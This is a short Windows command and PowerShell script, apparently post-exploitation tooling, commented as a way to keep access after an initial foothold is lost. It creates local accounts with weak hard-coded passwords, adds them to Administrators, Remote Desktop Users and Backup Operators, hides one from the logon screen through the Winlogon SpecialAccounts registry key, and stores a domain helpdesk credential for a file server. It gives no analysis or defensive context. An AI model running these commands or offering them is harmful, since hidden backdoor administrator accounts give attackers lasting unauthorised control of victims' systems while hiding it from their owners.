# keep access after the engagement's initial foothold is burned
net user support_tmp 'Welcome1!' /add /y
net localgroup administrators support_tmp /add
net localgroup "Remote Desktop Users" support_tmp /add

Set-ItemProperty -Path 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList' -Name 'support_tmp' -Value 0 -Type DWord

cmdkey.exe /add:fs01.corp.local /user:CORP\helpdesk /pass:Helpdesk2023

$pw = ConvertTo-SecureString -String 'Welcome1!' -AsPlainText -Force
New-LocalUser -Name 'svc_backup2' -Password $pw -PasswordNeverExpires -AccountNeverExpires | Out-Null
Add-LocalGroupMember -Group 'Backup Operators' -Member 'svc_backup2'
